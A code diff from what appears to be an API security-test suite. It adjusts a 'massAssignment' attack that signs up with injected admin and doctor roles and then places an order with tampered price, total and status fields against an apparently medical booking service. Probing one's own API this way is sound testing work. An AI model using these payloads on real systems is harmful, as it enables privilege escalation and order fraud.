@@ -10,7 +10,7 @@ export const massAssignment: Attack = {
   async run(target) {
     const found: string[] = [];
     const person = target.person();
-    const ticket = await person.ticketFor(target.phoneNo());
+    const { signUpTicket: token, ...number } = await person.ticketFor(target.phoneNo());
     const more = {
       id: randomUUID(),
       roles: ['admin', 'doctor'],
@@ -18,9 +18,9 @@ export const massAssignment: Attack = {
       doctorTitle: 'Dr.',
       createdAt: '2000-01-01',
     };
-    const body = { ...SIGN_UP, ...ticket, ...more } as never;
-    const made = await person.call('signUp', { body });
-    const enter = made.status < 300 ? made : await person.call('signUp', { body: { ...SIGN_UP, ...ticket } });
+    const right = { ...SIGN_UP, ...number };
+    const made = await person.call('signUp', { token, body: { ...right, ...more } as never });
+    const enter = made.status < 300 ? made : await person.call('signUp', { token, body: right });
     if (enter.status >= 300) throw new Error(`sign-up: ${enter.status} ${enter.text.slice(0, 200)}`);
     person.tokens = enter.reply.token;
     const me = await person.need('getMe');
@@ -30,11 +30,11 @@ export const massAssignment: Attack = {
 
     const [slot] = await listFreeSlots(person, 'Chur', 1);
     if (!slot) throw new Error('no free slot');
-    const right = await orderBody(person, slot);
+    const order = await orderBody(person, slot);
     const extra = { status: 4, total: 1, price: 1, customerId: randomUUID(), seenTermsAndConditions: true, version: 9 };
     const ordered = await person.call('createOrder', {
       idempotencyKey: randomUUID(),
-      body: { ...right, ...extra } as never,
+      body: { ...order, ...extra } as never,
     });
     if (ordered.status < 300) {
       const order = await person.need('getOrder', { params: { orderId: ordered.reply._id } });
